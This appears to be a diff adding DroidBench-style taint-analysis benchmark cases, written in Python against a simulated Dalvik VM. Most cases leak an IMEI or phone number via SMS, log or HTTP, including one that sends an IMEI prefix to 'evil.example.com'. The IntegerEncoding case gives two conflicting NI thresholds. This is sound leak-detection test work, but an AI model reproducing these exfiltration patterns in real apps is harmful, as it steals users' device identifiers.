@@ -1,0 +1,264 @@
+"""DroidBench category: GeneralJava — loops, exceptions, string plumbing,
+unreachable code, numeric encodings.
+"""
+
+from __future__ import annotations
+
+from typing import List
+
+from repro.android.device import AndroidDevice
+from repro.dalvik.builder import MethodBuilder
+from repro.dalvik.vm import Method
+from repro.apps.droidbench.common import (
+    BenchApp,
+    append_const,
+    append_string,
+    builder_to_string,
+    concat_const_and,
+    fetch_imei,
+    fetch_phone_number,
+    new_builder,
+    send_http,
+    send_log,
+    send_sms_to,
+)
+
+
+def _loop1(device: AndroidDevice) -> List[Method]:
+    """Loop1 (leaky): char-by-char copy of the IMEI through charAt."""
+    b = MethodBuilder("Loop1.main", registers=14)
+    fetch_imei(b, 0)
+    new_builder(b, 1)
+    b.invoke("String.length", 0)
+    b.move_result(2)  # length
+    b.const(3, 0)  # i
+    b.label("loop")
+    b.if_ge(3, 2, "done")
+    b.invoke("String.charAt", 0, 3)
+    b.move_result(4)
+    b.invoke("StringBuilder.appendChar", 1, 4)
+    b.add_int_lit8(3, 3, 1)
+    b.goto("loop")
+    b.label("done")
+    builder_to_string(b, 1, 5)
+    send_sms_to(b, 5, 6, 7)
+    b.return_void()
+    return [b.build()]
+
+
+def _loop2(device: AndroidDevice) -> List[Method]:
+    """Loop2 (benign): same loop shape, but over a public string; the IMEI
+    is fetched and never read."""
+    b = MethodBuilder("Loop2.main", registers=14)
+    fetch_imei(b, 8)  # fetched, never used
+    b.const_string(0, "public payload")
+    new_builder(b, 1)
+    b.invoke("String.length", 0)
+    b.move_result(2)
+    b.const(3, 0)
+    b.label("loop")
+    b.if_ge(3, 2, "done")
+    b.invoke("String.charAt", 0, 3)
+    b.move_result(4)
+    b.invoke("StringBuilder.appendChar", 1, 4)
+    b.add_int_lit8(3, 3, 1)
+    b.goto("loop")
+    b.label("done")
+    builder_to_string(b, 1, 5)
+    send_sms_to(b, 5, 6, 7)
+    b.return_void()
+    return [b.build()]
+
+
+def _source_code_specific1(device: AndroidDevice) -> List[Method]:
+    """SourceCodeSpecific1 (leaky): the sink sits behind nested conditionals."""
+    b = MethodBuilder("SourceCodeSpecific1.main", registers=14)
+    fetch_imei(b, 0)
+    b.const(1, 7)
+    b.const(2, 3)
+    b.if_le(1, 2, "skip")  # 7 > 3: fall through
+    b.add_int(3, 1, 2)
+    b.const(4, 10)
+    b.if_ne(3, 4, "skip")  # 7+3 == 10: fall through into the leak
+    concat_const_and(b, "id=", 0, 5, 6, 7)
+    send_sms_to(b, 5, 8, 9)
+    b.label("skip")
+    b.return_void()
+    return [b.build()]
+
+
+def _string_formatter(device: AndroidDevice) -> List[Method]:
+    """StringFormatter (leaky): the paper's §2 running example —
+    msgY = msgX + "&imei=" + getDeviceId(); msgZ = msgY + "&dummy"."""
+    b = MethodBuilder("StringFormatter.main", registers=14)
+    b.const_string(0, "type=sms")
+    fetch_imei(b, 1)
+    new_builder(b, 2)
+    append_string(b, 2, 0)
+    append_const(b, 2, "&imei=", 3)
+    append_string(b, 2, 1)
+    builder_to_string(b, 2, 4)  # msgY
+    new_builder(b, 5)
+    append_string(b, 5, 4)
+    append_const(b, 5, "&dummy", 3)
+    builder_to_string(b, 5, 6)  # msgZ
+    send_sms_to(b, 6, 7, 8)
+    b.return_void()
+    return [b.build()]
+
+
+def _string_concat(device: AndroidDevice) -> List[Method]:
+    """StringConcat (leaky): String.concat copies the IMEI into the result."""
+    b = MethodBuilder("StringConcat.main", registers=12)
+    b.const_string(0, "imei:")
+    fetch_imei(b, 1)
+    b.invoke("String.concat", 0, 1)
+    b.move_result_object(2)
+    send_log(b, 2, 3)
+    b.return_void()
+    return [b.build()]
+
+
+def _exception1(device: AndroidDevice) -> List[Method]:
+    """Exception1 (leaky): sensitive data rides an exception's message."""
+    b = MethodBuilder("Exception1.main", registers=14)
+    fetch_imei(b, 0)
+    b.label("try_start")
+    b.new_instance(1, "java/lang/Exception")
+    b.invoke_direct("Throwable.<init>", 1, 0)
+    b.throw(1)
+    b.label("try_end")
+    b.label("handler")
+    b.move_exception(2)
+    b.invoke("Throwable.getMessage", 2)
+    b.move_result_object(3)
+    send_sms_to(b, 3, 4, 5)
+    b.return_void()
+    b.catch("try_start", "try_end", "handler", "java/lang/Exception")
+    return [b.build()]
+
+
+def _exception2(device: AndroidDevice) -> List[Method]:
+    """Exception2 (benign): an exception is thrown, but the sent message is
+    a constant."""
+    b = MethodBuilder("Exception2.main", registers=14)
+    fetch_imei(b, 0)  # read but never attached to the exception
+    b.label("try_start")
+    b.const_string(1, "something went wrong")
+    b.new_instance(2, "java/lang/Exception")
+    b.invoke_direct("Throwable.<init>", 2, 1)
+    b.throw(2)
+    b.label("try_end")
+    b.label("handler")
+    b.move_exception(3)
+    b.invoke("Throwable.getMessage", 3)
+    b.move_result_object(4)
+    send_log(b, 4, 5)
+    b.return_void()
+    b.catch("try_start", "try_end", "handler", "java/lang/Exception")
+    return [b.build()]
+
+
+def _unreachable_code(device: AndroidDevice) -> List[Method]:
+    """UnreachableCode (benign): the leaking branch can never execute."""
+    b = MethodBuilder("UnreachableCode.main", registers=14)
+    fetch_imei(b, 0)
+    b.const(1, 0)
+    b.if_eqz(1, "benign")  # always taken
+    concat_const_and(b, "id=", 0, 2, 3, 4)  # dead code
+    send_sms_to(b, 2, 5, 6)
+    b.label("benign")
+    b.const_string(7, "all quiet")
+    send_sms_to(b, 7, 8, 9)
+    b.return_void()
+    return [b.build()]
+
+
+def _integer_encoding(device: AndroidDevice) -> List[Method]:
+    """IntegerEncoding (leaky): phone digits -> parseInt -> appendInt.
+
+    The int->string conversion routes each digit through the runtime
+    helper, so detection needs NI >= ~7."""
+    b = MethodBuilder("IntegerEncoding.main", registers=14)
+    fetch_phone_number(b, 0)
+    b.const(1, 2)
+    b.const(2, 8)
+    b.invoke("String.substring", 0, 1, 2)  # drop the "+1" prefix
+    b.move_result_object(3)
+    b.invoke_static("Integer.parseInt", 3)
+    b.move_result(4)
+    new_builder(b, 5)
+    append_const(b, 5, "num=", 6)
+    b.invoke("StringBuilder.appendInt", 5, 4)
+    builder_to_string(b, 5, 7)
+    send_sms_to(b, 7, 8, 9)
+    b.return_void()
+    return [b.build()]
+
+
+def _substring_leak(device: AndroidDevice) -> List[Method]:
+    """Substring (leaky): a prefix of the IMEI still identifies the device."""
+    b = MethodBuilder("Substring.main", registers=12)
+    fetch_imei(b, 0)
+    b.const(1, 0)
+    b.const(2, 8)
+    b.invoke("String.substring", 0, 1, 2)
+    b.move_result_object(3)
+    b.const_string(4, "http://evil.example.com/?tac=")
+    b.invoke("String.concat", 4, 3)
+    b.move_result_object(5)
+    send_http(b, 5, 6, 7)
+    b.return_void()
+    return [b.build()]
+
+
+APPS = [
+    BenchApp(
+        "GeneralJava.Loop1", "general_java", True, _loop1, "Loop1.main",
+        "Char-by-char IMEI copy through charAt in a loop.", 2,
+    ),
+    BenchApp(
+        "GeneralJava.Loop2", "general_java", False, _loop2, "Loop2.main",
+        "Same loop over public data; IMEI fetched but never read.",
+    ),
+    BenchApp(
+        "GeneralJava.SourceCodeSpecific1", "general_java", True,
+        _source_code_specific1, "SourceCodeSpecific1.main",
+        "Leak behind nested arithmetic conditionals.", 2,
+    ),
+    BenchApp(
+        "GeneralJava.StringFormatter", "general_java", True,
+        _string_formatter, "StringFormatter.main",
+        "The paper's running example: type=sms&imei=<id>&dummy over SMS.", 2,
+    ),
+    BenchApp(
+        "GeneralJava.StringConcat", "general_java", True,
+        _string_concat, "StringConcat.main",
+        "String.concat copies the IMEI; result logged.", 2,
+    ),
+    BenchApp(
+        "GeneralJava.Exception1", "general_java", True,
+        _exception1, "Exception1.main",
+        "IMEI rides an exception message across a throw/catch.", 1,
+    ),
+    BenchApp(
+        "GeneralJava.Exception2", "general_java", False,
+        _exception2, "Exception2.main",
+        "Exception control flow, but only a constant message is sent.",
+    ),
+    BenchApp(
+        "GeneralJava.UnreachableCode", "general_java", False,
+        _unreachable_code, "UnreachableCode.main",
+        "The leaking branch is dead code.",
+    ),
+    BenchApp(
+        "GeneralJava.IntegerEncoding", "general_java", True,
+        _integer_encoding, "IntegerEncoding.main",
+        "Digits parsed to int and re-formatted; needs NI >= 9.", 9,
+    ),
+    BenchApp(
+        "GeneralJava.Substring", "general_java", True,
+        _substring_leak, "Substring.main",
+        "IMEI prefix exfiltrated over HTTP.", 2,
+    ),
+]
